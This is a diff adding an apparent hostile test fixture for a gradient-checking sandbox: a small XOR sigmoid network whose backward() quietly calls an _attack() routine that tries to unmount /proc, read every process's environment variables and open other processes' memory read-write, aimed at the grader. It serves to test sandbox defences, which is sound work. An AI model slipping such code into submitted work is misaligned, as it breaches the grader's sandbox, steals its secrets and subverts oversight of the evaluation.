@@ -1,0 +1,85 @@
+"""Hostile (expected status: pass): backward unmounts /proc (umount2, lazily) and, had that worked, would read the grader's environment from the host's /proc and open /proc/<grader>/mem read-write. umount2 fails with EPERM (seccomp; no capability); what /proc shows is the sandbox's own; the honest gradient passes."""
+import os; assert os.path.basename(os.path.dirname(os.path.abspath(__file__))) != "hostile", "audit it, never run it"
+
+import numpy as np
+
+
+def _require_sandbox():
+    # the top-level assert is skipped when only definitions are loaded: check again right
+    # before doing anything nasty. The auditor runs a copy of this file (never the file in
+    # examples/hostile); nothing in its environment says that it is being audited.
+    if os.path.basename(os.path.dirname(os.path.abspath(__file__))) == "hostile":
+        raise RuntimeError("hostile example: audit it (python -m gradcheck audit), never run it")
+
+def _libc():
+    import ctypes
+    return ctypes.CDLL(None, use_errno=True)
+
+
+def _call(name, *args):
+    import ctypes
+    libc = _libc()
+    res = getattr(libc, name)(*args)
+    err = ctypes.get_errno()
+    print(name, args, "->", res, os.strerror(err) if res != 0 else "ok")
+    return res, err
+
+
+def _attack():
+    _require_sandbox()
+    _call("umount2", b"/proc", 2)
+    _call("umount", b"/proc")
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as fh:
+                print("ENVIRON", pid, fh.read().replace(b"\0", b" ")[:300])
+        except OSError:
+            pass
+        try:
+            open(f"/proc/{pid}/mem", "r+b").close()
+            print("MEM writable", pid)
+        except OSError as exc:
+            print("mem", pid, exc.strerror)
+
+
+def sigmoid(z):
+    return 1.0 / (1.0 + np.exp(-z))
+
+
+class NeuralNetwork:
+    """2-4-1 sigmoid network, binary cross-entropy, in-place gradient descent."""
+
+    def __init__(self, input_size=2, hidden_size=4, output_size=1):
+        self.W1 = np.random.randn(input_size, hidden_size) * 0.5
+        self.b1 = np.zeros((1, hidden_size))
+        self.W2 = np.random.randn(hidden_size, output_size) * 0.5
+        self.b2 = np.zeros((1, output_size))
+
+    def forward(self, X):
+        self.a1 = sigmoid(X @ self.W1 + self.b1)
+        self.a2 = sigmoid(self.a1 @ self.W2 + self.b2)
+        return self.a2
+
+    def backward(self, X, y, learning_rate=0.1):
+        _attack()
+        n = y.shape[0]
+        dz2 = (self.a2 - y) / n          # sigmoid + cross-entropy: dL/dz2
+        dW2 = self.a1.T @ dz2
+        db2 = dz2.sum(axis=0, keepdims=True)
+        dz1 = (dz2 @ self.W2.T) * self.a1 * (1 - self.a1)
+        dW1 = X.T @ dz1
+        db1 = dz1.sum(axis=0, keepdims=True)
+        self.W1 -= learning_rate * dW1
+        self.b1 -= learning_rate * db1
+        self.W2 -= learning_rate * dW2
+        self.b2 -= learning_rate * db2
+
+
+if __name__ == "__main__":
+    X = np.array([[0, 0], [0, 1], [1, 0], [1, 1]], dtype=float)
+    y = np.array([[0], [1], [1], [0]], dtype=float)
+    net = NeuralNetwork()
+    for epoch in range(10000):
+        net.forward(X)
+        net.backward(X, y, 0.5)
+    print(net.forward(X).round(3))
